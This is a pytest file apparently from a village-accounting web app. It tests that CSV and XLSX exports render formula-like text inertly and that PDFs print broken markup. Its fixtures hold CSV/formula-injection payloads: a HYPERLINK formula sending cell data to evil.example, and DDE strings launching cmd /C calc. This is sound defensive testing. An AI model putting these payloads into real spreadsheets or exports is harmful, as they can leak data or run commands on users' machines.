"""Hostile text through the web and the console script (issue 11, points 1 and 6).

A posted voucher whose summary is broken markup still prints; every CSV and XLSX export writes text that would
start a formula as text — the raw CSV cells begin with an apostrophe, the XLSX cells are strings with Excel's quote
prefix — while amounts stay plain numbers (CSV) and numbers (XLSX).
"""
from __future__ import annotations

import csv
import io
import os

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from pypdf import PdfReader

from threeassets.core.csvio import formula_like

MARKUP = '<b>unclosed <img src="/etc/passwd"/> R&D &nbsp; ]]>'
# what a spreadsheet would run: a link out, DDE, arithmetic, a function (tabs and returns are stripped on input)
NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
SUMMARY = "+cmd|' /C calc'!A0"
PAYEE = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def csv_cells(data: bytes) -> list[list[str]]:
    """The cells of a CSV export (BOM or not) as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_safe(resp, *hostile: str) -> list[list[str]]:
    """A CSV (a download: its type said once, UTF-8; or a file's bytes) where no cell would run as a formula and
    each hostile text is there, behind an apostrophe."""
    if not isinstance(resp, bytes):
        assert resp.headers["Content-Type"] == "text/csv; charset=utf-8", resp.headers["Content-Type"]
    cells = csv_cells(resp if isinstance(resp, bytes) else resp.data)
    flat = [c for row in cells for c in row]
    assert not [c for c in flat if formula_like(c)], [c for c in flat if formula_like(c)]
    for text in hostile:
        assert "'" + text in flat, (text, flat)
    return cells


def assert_xlsx_safe(data: bytes, *hostile: str) -> list:
    """No formula cell; text that would start one is a string with the quote prefix; each hostile text is there."""
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for c in cells:
        if isinstance(c.value, str) and formula_like(c.value):
            assert c.data_type == "s" and c.quotePrefix, c.coordinate
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in hostile:
        assert any(text in t for t in texts), (text, texts)
    return cells


@pytest.fixture
def hostile_books(records, world):
    """a1's books in May 2024: a sub-account of 513 named like a formula, a posted voucher to it whose summary is
    another; a1 also has a budget line on it (so the budget report lists it)."""
    acc = records.sub_account(world.a1, "513", name=NAME)
    voucher = records.voucher(world.a1, "posted", summary=SUMMARY, debit=acc.code, credit="101", amount="12.50")
    return acc, voucher


def test_a_posted_voucher_with_broken_markup_prints(as_user, records, world):
    v = records.voucher(world.a1, "posted", summary=MARKUP)
    resp = as_user("accountant").get(f"/v/{world.a1.id}/vouchers/{v.id}/pdf")
    assert resp.status_code == 200 and resp.mimetype == "application/pdf"
    text = "".join("".join(p.extract_text() for p in PdfReader(io.BytesIO(resp.data)).pages).split())
    assert "".join(MARKUP.split()) in text


@pytest.mark.parametrize("path,hostile", [
    ("reports/trial-balance?from=2024-05&to=2024-05", (NAME,)),
    ("statements/general-ledger?period=2024-05", ()),  # first-level accounts only: the chart's own names
    ("statements/income-expense?period=2024-05", (NAME,)),
    ("statements/cash-journal?from=2024-05&to=2024-05", (SUMMARY,)),
    ("budgets/report?year=2024&to=2024-05", (NAME,)),
])
def test_books_exports_write_formulas_as_text(as_user, world, hostile_books, path, hostile):
    c = as_user("accountant")
    base = f"/v/{world.a1.id}/{path}"
    resp = c.get(base + "&format=csv")
    assert resp.status_code == 200, resp.data[:300]
    cells = assert_csv_safe(resp, *hostile)
    if path.startswith("reports"):  # the export contract: amounts as plain two-decimal numbers
        assert ["513" + hostile_books[0].code[3:], NAME, "0.00", "0.00", "12.50", "0.00", "12.50", "0.00"] in [
            [r[0], r[1].removeprefix("'"), *r[2:]] for r in cells]
    resp = c.get(base + "&format=xlsx")
    assert resp.status_code == 200
    cells = assert_xlsx_safe(resp.data, *hostile)
    assert any(x.data_type == "n" and x.value == 12.5 for x in cells)  # amounts stay numbers


def test_budget_variance_stays_a_negative_number(as_user, world, hostile_books):
    c = as_user("accountant")
    acc = hostile_books[0]
    c.post(f"/v/{world.a1.id}/budgets", data={"year": "2024", f"amount-{acc.code}": "100"})
    base = f"/v/{world.a1.id}/budgets/report?year=2024&to=2024-05"
    rows = assert_csv_safe(c.get(base + "&format=csv"), NAME)
    assert [acc.code, "'" + NAME, "100.00", "12.50", "-87.50", "12.5"] in rows
    cells = assert_xlsx_safe(c.get(base + "&format=xlsx").data, NAME)
    assert any(x.data_type == "n" and x.value == -87.5 for x in cells)


def test_registers_and_hall_exports_write_formulas_as_text(as_user, world, session):
    from threeassets.core.db import transaction
    from threeassets.windows import catalogue, service
    c = as_user("accountant")
    resource = {"code": "GD-9", "name": NAME, "rtype": "耕地", "location": SUMMARY, "area_mu": "3.50", "east": PAYEE,
                "south": AT, "west": "河", "north": "路", "certificate_no": "=1+1", "status": "unlet"}
    assert c.post(f"/v/{world.a1.id}/resources/new", data=resource).status_code == 302
    assert_csv_safe(c.get(f"/v/{world.a1.id}/resources/export.csv"), NAME, SUMMARY, PAYEE, AT, "=1+1")
    card = {"funding": "existing", "code": "F-9", "name": NAME, "category": "机器设备", "purpose": "operating",
            "acquired_on": "2021-04-01", "original_cost": "8,000.00", "useful_life_months": "96",
            "salvage_rate": "5", "depreciate": "是", "accumulated_depreciation": "0", "location": SUMMARY,
            "custodian": PAYEE}
    assert c.post(f"/v/{world.a1.id}/assets/new", data=card).status_code == 302
    cells = assert_xlsx_safe(c.get(f"/v/{world.a1.id}/assets?format=xlsx").data, NAME, SUMMARY, PAYEE)
    assert any(x.data_type == "n" and x.value == 8000 for x in cells)
    with transaction(session):
        item = catalogue.item_by_code(session, world.township_a.id, "claim")
        service.intake(session, township=world.township_a, item=item, actor=world.user("clerk"),
                       applicant_name=AT, applicant_phone="13800000000", village_id=world.a1.id)
    c = as_user("clerk")
    assert_csv_safe(c.get(f"/t/{world.township_a.id}/hall/cases?format=csv"), AT)


def test_import_templates_pass_the_guard(as_user, world):
    c = as_user("accountant")
    for path in (f"/t/{world.township_a.id}/import/vouchers/template.csv",
                 f"/t/{world.township_a.id}/budgets/import/template.csv",
                 f"/v/{world.a1.id}/resources/import/template.csv",
                 f"/v/{world.a1.id}/contracts/import/template.csv",
                 f"/v/{world.a1.id}/switchover/template.csv",
                 f"/v/{world.a1.id}/openings/template?format=csv"):
        resp = c.get(path)
        assert resp.status_code == 200, path
        assert len(assert_csv_safe(resp)) >= 2, path
    resp = c.get(f"/v/{world.a1.id}/assets/import/template.xlsx")
    assert resp.status_code == 200 and assert_xlsx_safe(resp.data)


def test_the_console_script_exports_formulas_as_text(app, db_url, world, hostile_books, tmp_path):
    from threeassets.cli import main
    env = {k: v for k, v in os.environ.items() if k != "TEST_DATABASE_URL"}
    env.update(DATABASE_URL=str(db_url), THREEASSETS_INSTANCE=str(tmp_path / "instance"))
    runs = [(["trial-balance", "--village", "A1", "--from", "2024-05", "--to", "2024-05"], NAME),
            (["income-expense", "--village", "A1", "--period", "2024-05"], NAME),
            (["cash-journal", "--village", "A1", "--from", "2024-05", "--to", "2024-05"], SUMMARY),
            (["budget", "--village", "A1", "--year", "2024"], NAME)]
    for args, hostile in runs:
        for fmt, check in (("csv", assert_csv_safe), ("xlsx", assert_xlsx_safe)):
            out = tmp_path / f"out.{fmt}"
            result = CliRunner().invoke(main, ["report", *args, "--format", fmt, "-o", str(out)], env=env)
            assert result.exit_code == 0, (args, result.output)
            check(out.read_bytes(), hostile)
